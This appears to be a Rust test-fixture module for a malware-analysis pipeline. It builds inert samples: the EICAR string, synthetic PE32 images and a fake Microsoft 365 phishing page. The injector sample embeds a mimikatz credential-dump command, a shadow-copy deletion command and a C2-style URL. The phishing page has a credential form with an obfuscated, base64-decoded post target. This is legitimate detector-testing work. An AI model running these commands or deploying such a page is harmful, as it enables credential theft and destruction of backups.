@@ -0,0 +1,201 @@
+//! Synthetic samples for the pipeline tests
+//!
+//! Nothing here is live malware. Each sample is built in code from inert
+//! bytes that trip (or deliberately avoid) the analyzers' indicators: the
+//! EICAR test string, hand-assembled PE32 images that never run, and a
+//! phishing page with no working endpoints. Building them at test time
+//! keeps binaries out of the repository and off endpoint scanners.
+
+/// The industry-standard antivirus test file
+pub const EICAR: &[u8] =
+    br"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*";
+
+#[derive(Debug, Clone)]
+pub struct Sample {
+    /// Golden fixture name, `testdata/golden/<name>.json`
+    pub name: &'static str,
+    pub filename: &'static str,
+    pub data: Vec<u8>,
+}
+
+/// Every sample the golden suite covers
+pub fn all() -> Vec<Sample> {
+    vec![
+        Sample { name: "eicar", filename: "eicar.com", data: EICAR.to_vec() },
+        Sample { name: "benign_text", filename: "notes.txt", data: benign_text() },
+        Sample { name: "benign_pe", filename: "hello.exe", data: benign_pe() },
+        Sample { name: "packed_pe", filename: "update.exe", data: packed_pe() },
+        Sample { name: "injector_pe", filename: "svch0st.exe", data: injector_pe() },
+        Sample { name: "phishing_html", filename: "invoice.html", data: phishing_html() },
+    ]
+}
+
+fn benign_text() -> Vec<u8> {
+    b"Release checklist\n\n\
+      1. Bump the version number\n\
+      2. Update the changelog\n\
+      3. Tag the release and push it\n"
+        .to_vec()
+}
+
+/// Two ordinary sections of low-entropy filler
+fn benign_pe() -> Vec<u8> {
+    let code = filler(0x400, b"\x55\x8b\xec\x33\xc0\x5d\xc3\x90");
+    let mut data = filler(0x200, b"\0");
+    data[..24].copy_from_slice(b"Hello from a test image\0");
+    pe32(&[(".text", code, TEXT), (".data", data, DATA)])
+}
+
+/// UPX-style section names wrapped around random-looking data
+fn packed_pe() -> Vec<u8> {
+    pe32(&[
+        ("UPX0", Vec::new(), TEXT | WRITE),
+        ("UPX1", noise(0x2000, 0x5eed), TEXT | WRITE),
+        (".rsrc", filler(0x200, b"\0"), DATA),
+    ])
+}
+
+/// Process-injection and credential-theft strings in the data section
+fn injector_pe() -> Vec<u8> {
+    let mut data = Vec::new();
+    for s in [
+        "kernel32.dll",
+        "OpenProcess",
+        "VirtualAllocEx",
+        "WriteProcessMemory",
+        "CreateRemoteThread",
+        "IsDebuggerPresent",
+        "mimikatz sekurlsa::logonpasswords",
+        "cmd.exe /c vssadmin delete shadows /all /quiet",
+        "http://185.220.101.42/gate.php",
+    ] {
+        data.extend_from_slice(s.as_bytes());
+        data.push(0);
+    }
+    data.resize(0x400, 0);
+    let code = filler(0x200, b"\x55\x8b\xec\x90");
+    pe32(&[(".text", code, TEXT), (".data", data, DATA)])
+}
+
+/// Credential-harvesting page posting to a bare IP address
+fn phishing_html() -> Vec<u8> {
+    br#"<!DOCTYPE html>
+<html>
+<head><title>Microsoft 365 - Verify your account</title></head>
+<body>
+  <h2>Your password expires today</h2>
+  <p>Urgent: verify your account within 24 hours or your mailbox will be suspended.</p>
+  <form action="http://192.0.2.77/owa/login.php" method="post">
+    <input type="email" name="login" placeholder="Email address">
+    <input type="password" name="passwd" placeholder="Password">
+    <button type="submit">Sign in</button>
+  </form>
+  <script>
+    var payload = atob("aHR0cDovLzE5Mi4wLjIuNzcvYy5waHA=");
+    document.forms[0].action = payload;
+  </script>
+</body>
+</html>
+"#
+    .to_vec()
+}
+
+const TEXT: u32 = 0x6000_0020; // code | execute | read
+const DATA: u32 = 0xC000_0040; // initialized data | read | write
+const WRITE: u32 = 0x8000_0000;
+
+const FILE_ALIGNMENT: usize = 0x200;
+const SECTION_ALIGNMENT: u32 = 0x1000;
+
+/// Assemble a minimal PE32 image that goblin parses: DOS stub, COFF and
+/// optional headers with empty data directories, then the sections
+fn pe32(sections: &[(&str, Vec<u8>, u32)]) -> Vec<u8> {
+    const PE_OFFSET: usize = 0x40;
+    const OPTIONAL_HEADER_SIZE: u16 = 224;
+
+    let align = |n: usize, to: usize| n.div_ceil(to) * to;
+    let virtual_size = |raw: &[u8]| align(raw.len().max(1), SECTION_ALIGNMENT as usize) as u32;
+    let size_of_image = SECTION_ALIGNMENT
+        + sections.iter().map(|(_, raw, _)| virtual_size(raw)).sum::<u32>();
+
+    let mut image = vec![0u8; PE_OFFSET];
+    image[..2].copy_from_slice(b"MZ");
+    image[0x3c..0x40].copy_from_slice(&(PE_OFFSET as u32).to_le_bytes());
+
+    // COFF header, i386 executable
+    image.extend_from_slice(b"PE\0\0");
+    image.extend_from_slice(&0x014cu16.to_le_bytes());
+    image.extend_from_slice(&(sections.len() as u16).to_le_bytes());
+    image.extend_from_slice(&[0; 12]);
+    image.extend_from_slice(&OPTIONAL_HEADER_SIZE.to_le_bytes());
+    image.extend_from_slice(&0x0102u16.to_le_bytes());
+
+    // Optional header
+    let optional_start = image.len();
+    image.extend_from_slice(&0x010bu16.to_le_bytes());
+    image.extend_from_slice(&[0; 14]); // linker version, code and data sizes
+    image.extend_from_slice(&SECTION_ALIGNMENT.to_le_bytes()); // entry point
+    image.extend_from_slice(&SECTION_ALIGNMENT.to_le_bytes()); // base of code
+    image.extend_from_slice(&0u32.to_le_bytes()); // base of data
+    image.extend_from_slice(&0x0040_0000u32.to_le_bytes()); // image base
+    image.extend_from_slice(&SECTION_ALIGNMENT.to_le_bytes());
+    image.extend_from_slice(&(FILE_ALIGNMENT as u32).to_le_bytes());
+    image.extend_from_slice(&[4, 0, 0, 0, 0, 0, 0, 0, 4, 0, 0, 0]); // OS, image and subsystem versions
+    image.extend_from_slice(&0u32.to_le_bytes()); // win32 version
+    image.extend_from_slice(&size_of_image.to_le_bytes());
+    image.extend_from_slice(&(FILE_ALIGNMENT as u32).to_le_bytes()); // size of headers
+    image.extend_from_slice(&0u32.to_le_bytes()); // checksum
+    image.extend_from_slice(&2u16.to_le_bytes()); // Windows GUI
+    image.extend_from_slice(&0u16.to_le_bytes()); // DLL characteristics
+    for size in [0x10_0000u32, 0x1000, 0x10_0000, 0x1000] {
+        image.extend_from_slice(&size.to_le_bytes()); // stack and heap
+    }
+    image.extend_from_slice(&0u32.to_le_bytes()); // loader flags
+    image.extend_from_slice(&16u32.to_le_bytes()); // data directory count
+    image.resize(optional_start + OPTIONAL_HEADER_SIZE as usize, 0);
+
+    // Section table
+    let mut raw_offset = FILE_ALIGNMENT;
+    let mut virtual_address = SECTION_ALIGNMENT;
+    for (name, raw, characteristics) in sections {
+        let raw_size = align(raw.len(), FILE_ALIGNMENT);
+        let mut name_bytes = [0u8; 8];
+        name_bytes[..name.len()].copy_from_slice(name.as_bytes());
+        image.extend_from_slice(&name_bytes);
+        image.extend_from_slice(&virtual_size(raw).to_le_bytes());
+        image.extend_from_slice(&virtual_address.to_le_bytes());
+        image.extend_from_slice(&(raw_size as u32).to_le_bytes());
+        let pointer = if raw_size == 0 { 0 } else { raw_offset as u32 };
+        image.extend_from_slice(&pointer.to_le_bytes());
+        image.extend_from_slice(&[0; 12]); // relocations and line numbers
+        image.extend_from_slice(&characteristics.to_le_bytes());
+
+        raw_offset += raw_size;
+        virtual_address += virtual_size(raw);
+    }
+    assert!(image.len() <= FILE_ALIGNMENT, "too many sections for one header page");
+    image.resize(FILE_ALIGNMENT, 0);
+
+    for (_, raw, _) in sections {
+        image.extend_from_slice(raw);
+        image.resize(align(image.len(), FILE_ALIGNMENT), 0);
+    }
+    image
+}
+
+fn filler(len: usize, pattern: &[u8]) -> Vec<u8> {
+    pattern.iter().copied().cycle().take(len).collect()
+}
+
+/// Deterministic high-entropy bytes (xorshift64)
+fn noise(len: usize, seed: u64) -> Vec<u8> {
+    let mut state = seed;
+    (0..len)
+        .map(|_| {
+            state ^= state << 13;
+            state ^= state >> 7;
+            state ^= state << 17;
+            (state >> 24) as u8
+        })
+        .collect()
+}